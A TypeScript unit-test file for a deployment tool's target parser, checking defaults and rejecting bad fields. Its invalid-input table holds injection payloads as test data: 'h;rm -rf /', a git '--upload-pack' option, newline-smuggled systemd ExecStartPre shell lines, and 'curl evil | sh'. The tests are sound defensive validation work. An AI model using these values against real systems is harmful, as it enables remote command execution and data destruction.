import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseTarget, InvalidTargetError, repoNameOf } from '../../src/domain/target-schema.ts';

test('applies the SPEC §2 defaults, deriving remote_dir and binary from the app', () => {
  assert.deepEqual(parseTarget({ app: 'my_app', host: 'vps1' }), {
    app: 'my_app',
    host: 'vps1',
    remote_dir: '/opt/apps/my_app',
    binary: 'my_app',
    build_cmd: '',
    user: '',
    port: 0,
    health: '',
    env: {},
    strategy: 'systemd',
    source_dir: '',
    branch: 'main',
    compose_files: [],
    repo: '',
    repo_name: '',
    auto_rollback: true,
    keep_releases: 0,
    skip_ci_marker: false,
  });
});

test('keeps the values given', () => {
  const target = parseTarget({
    app: 'chat', host: 'vps-2.example', remote_dir: '/srv/chat', strategy: 'docker-compose',
    compose_files: ['a.yml', 'b.yml'], env: { A: '1' }, port: 65535, branch: 'release',
  });
  assert.equal(target.remote_dir, '/srv/chat');
  assert.equal(target.binary, 'chat');
  assert.deepEqual(target.compose_files, ['a.yml', 'b.yml']);
  assert.equal(target.port, 65535);
});

const invalid: [string, unknown, string, string][] = [
  ['missing app', { host: 'h' }, 'app', 'app is required'],
  ['empty host', { app: 'a', host: '' }, 'host', 'host is required'],
  ['app with a space', { app: 'a b', host: 'h' }, 'app', 'app may only contain letters, digits, ".", "_" and "-", and must start with a letter or digit'],
  ['host with shell syntax', { app: 'a', host: 'h;rm -rf /' }, 'host', 'host may only contain letters, digits, ".", "_" and "-", and must start with a letter or digit'],
  ['unknown strategy', { app: 'a', host: 'h', strategy: 'k8s' }, 'strategy', 'strategy must be one of systemd, systemd-remote, docker-compose'],
  ['port too large', { app: 'a', host: 'h', port: 65536 }, 'port', 'port must be between 0 and 65535'],
  ['negative port', { app: 'a', host: 'h', port: -1 }, 'port', 'port must be between 0 and 65535'],
  ['fractional port', { app: 'a', host: 'h', port: 80.5 }, 'port', 'port must be a whole number'],
  ['env with a number', { app: 'a', host: 'h', env: { A: 1 } }, 'env', 'env must be a JSON object of string values'],
  ['env as an array', { app: 'a', host: 'h', env: ['A'] }, 'env', 'env must be a JSON object of string values'],
  ['compose files as a string', { app: 'a', host: 'h', compose_files: 'x.yml' }, 'compose_files', 'compose_files must be a list of file names'],
  ['a relative remote_dir', { app: 'a', host: 'h', remote_dir: 'srv/a' }, 'remote_dir', 'remote_dir must be an absolute path'],
  ['a binary with a slash', { app: 'a', host: 'h', binary: '../x' }, 'binary', 'binary may only contain letters, digits, ".", "_" and "-", and must start with a letter or digit'],
  ['a branch that reads as an option', { app: 'a', host: 'h', branch: '--upload-pack=touch /tmp/x' }, 'branch', 'branch must not start with "-"'],
  ['an app that reads as an option', { app: '-Hevil', host: 'h' }, 'app', 'app may only contain letters, digits, ".", "_" and "-", and must start with a letter or digit'],
  ['a user with a newline (unit file injection)', { app: 'a', host: 'h', user: 'svc\nExecStartPre=/bin/sh -c x' }, 'user', 'user may only contain letters, digits, ".", "_" and "-", and must start with a letter or digit'],
  ['a remote_dir with a newline', { app: 'a', host: 'h', remote_dir: '/srv/a\nExecStartPre=/x' }, 'remote_dir', 'remote_dir must not contain newlines or control characters'],
  ['a health path with a space', { app: 'a', host: 'h', health: '/health x' }, 'health', 'health must be a path starting with "/", without spaces'],
  ['an env name with a newline', { app: 'a', host: 'h', env: { 'A\nB': '1' } }, 'env', 'env names must be letters, digits and "_", not starting with a digit'],
  ['a repo_name that is not owner/name', { app: 'a', host: 'h', repo_name: 'acme' }, 'repo_name', 'repo_name must be "owner/name"'],
  ['a build_cmd with a newline', { app: 'a', host: 'h', build_cmd: 'make\ncurl evil | sh' }, 'build_cmd', 'build_cmd must not contain newlines or control characters'],
  ['a build_cmd with a NUL', { app: 'a', host: 'h', build_cmd: 'make\u0000x' }, 'build_cmd', 'build_cmd must not contain newlines or control characters'],
  ['an env value with a newline (unit file injection)', { app: 'a', host: 'h', env: { A: 'x"\nExecStartPre=/bin/sh -c evil' } }, 'env', 'env values must not contain newlines or control characters'],
  ['an env value with a NUL', { app: 'a', host: 'h', env: { TOKEN: 's3cret\u0000' } }, 'env', 'env values must not contain newlines or control characters'],
  ['unknown field', { app: 'a', host: 'h', colour: 'red' }, 'colour', 'unknown field "colour"'],
];

for (const [name, input, field, message] of invalid) {
  test(`rejects ${name}, naming the field`, () => {
    assert.throws(() => parseTarget(input), (error: unknown) => {
      assert.ok(error instanceof InvalidTargetError);
      assert.equal(error.field, field);
      assert.equal(error.message, message);
      return true;
    });
  });
}

test('repo_name: given, else the owner/name of a --repo URL that names one', () => {
  const cases: [string, string][] = [
    ['https://git.example.com/acme/api.git', 'acme/api'],
    ['https://deploy:tok@git.example.com/acme/api', 'acme/api'],
    ['git@git.example.com:acme/api.git', 'acme/api'],
    ['ssh://git@git.example.com:2222/acme/api.git', 'acme/api'],
    ['https://git.example.com/sub/path/acme/api.git/', 'acme/api'],
    ['/srv/git/api.git', ''],
    ['https://git.example.com/api', ''],
    ['', ''],
  ];
  for (const [url, name] of cases) assert.equal(repoNameOf(url), name, url);
  assert.equal(parseTarget({ app: 'a', host: 'h', repo: 'git@g.example:acme/api.git' }).repo_name, 'acme/api');
  assert.equal(parseTarget({ app: 'a', host: 'h', repo: 'git@g.example:acme/api.git', repo_name: 'other/api' }).repo_name, 'other/api');
});
